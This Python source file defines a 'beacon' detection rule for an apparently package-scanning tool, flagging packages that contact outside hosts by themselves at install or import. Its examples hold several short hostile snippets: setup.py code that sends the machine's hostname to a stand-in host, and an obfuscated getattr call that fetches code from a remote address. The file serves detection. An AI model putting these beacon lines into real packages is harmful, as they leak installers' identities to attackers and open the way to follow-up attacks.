"""Beacon: who and where the machine is, sent by itself."""

from __future__ import annotations

from collections.abc import Iterator

from pratique.facts.model import PackageFacts
from pratique.facts.python.model import Call, Does, PythonFacts, Source, Taint
from pratique.facts.python.secrets import secret_place
from pratique.facts.shell import read_shell
from pratique.finding import Behaviour, Finding, Phase, Severity
from pratique.rules.claims import HIDDEN_PLACE, claim, command, destination, hidden, when
from pratique.rules.rule import Example, Rule

_ID = "beacon"
_NAMES_SOMEBODY = (
    "hostname",
    "getfqdn",
    "getuser",
    "getlogin",
    "node",
    "getnode",
    "uname",
    "GetUserName",
    "getpwuid",
    "mac",
)


def _check(facts: PackageFacts) -> Iterator[Finding]:
    for file in facts.python:
        for call in file.calls:
            if not call.phase.automatic:
                continue
            if call.does & {Does.SEND, Does.FETCH}:
                yield from _network(file, call)
            elif Does.RUN_PROCESS in call.does and call.phase is Phase.INSTALL:
                yield from _command(file.path, call)


def _network(file: PythonFacts, call: Call) -> Iterator[Finding]:
    place = destination(call)
    taints = _identifying(call.taints(Source.HOST, Source.PROCESS))
    if taints:
        message = f"host or user name is sent to {place or 'another host'} {when(call.phase)}"
        yield claim(_ID, Behaviour.THEFT, file.path, call, message, severity=Severity.CRITICAL, taints=taints)
    elif call.phase is Phase.INSTALL:
        sent_away = Does.SEND in call.does and not _kept(file)
        worst = sent_away or (bool(place) and (hidden(call, place) or not _kept(file)))
        yield _calls(file.path, call, place or "another host", worst=worst)
    elif HIDDEN_PLACE.search(place) and not secret_place(place):  # what a machine's own cloud tells it stays there
        yield _calls(file.path, call, place, worst=True)


def _command(path: str, call: Call) -> Iterator[Finding]:
    shell = read_shell(command(call))
    if places := (*shell.sends, *shell.downloads):
        covert = shell.hidden or bool(HIDDEN_PLACE.search(" ".join(places)))
        yield _calls(path, call, places[0], worst=bool(shell.identifies or shell.sends or covert))


def _kept(file: PythonFacts) -> bool:
    """Whether what is fetched at install is written somewhere: else only the call itself can be meant."""
    return any(c.phase is Phase.INSTALL and Does.WRITE in c.does for c in file.calls)


def _calls(path: str, call: Call, place: str, *, worst: bool) -> Finding:
    return claim(
        _ID,
        Behaviour.SECOND_STAGE,
        path,
        call,
        f"calls {place} {when(call.phase)}",
        severity=Severity.CRITICAL if worst else Severity.HIGH,
    )


def _identifying(taints: tuple[Taint, ...]) -> tuple[Taint, ...]:
    return tuple(t for t in taints if t.source is Source.PROCESS or t.detail.endswith(_NAMES_SOMEBODY))


RULE = Rule(
    id=_ID,
    behaviour=Behaviour.THEFT,
    summary="The package calls home by itself: at install, with the host's or user's name, or to a place that hides its owner.",
    gain="The attacker learns who installed it and whom to attack next; dependency confusion is found this way.",
    honest="Telemetry runs when a program is used; a build that fetches what it needs comes from the project's own home.",
    check=_check,
    loud=(
        Example(
            title="host name at install, by alias",
            files={
                "setup.py": "import socket as s, urllib.request as u\n"
                "u.urlopen('http://c.example.invalid/?h=' + s.gethostname())\n"
            },
        ),
        Example(
            title="a paste fetched when imported, through getattr",
            files={"pkg/__init__.py": "import requests\ngetattr(requests, 'g' + 'et')('http://203.0.113.9/raw/a')\n"},
        ),
        Example(
            title="by __import__",
            files={
                "pkg/__init__.py": "import requests\nrequests.get('http://c.example.invalid/', params={'h': __import__('socket').gethostname()})\n"
            },
        ),
    ),
    quiet=(
        Example(
            title="an address of this machine, when imported",
            files={"pkg/__init__.py": "import requests\nrequests.get('http://127.0.0.1:8080/health')\n"},
        ),
        Example(
            title="telemetry when called",
            files={
                "pkg/__init__.py": "import platform, requests\ndef report():\n"
                "    requests.post('https://t.example.invalid/', json={'os': platform.system()})\n"
            },
        ),
    ),
)
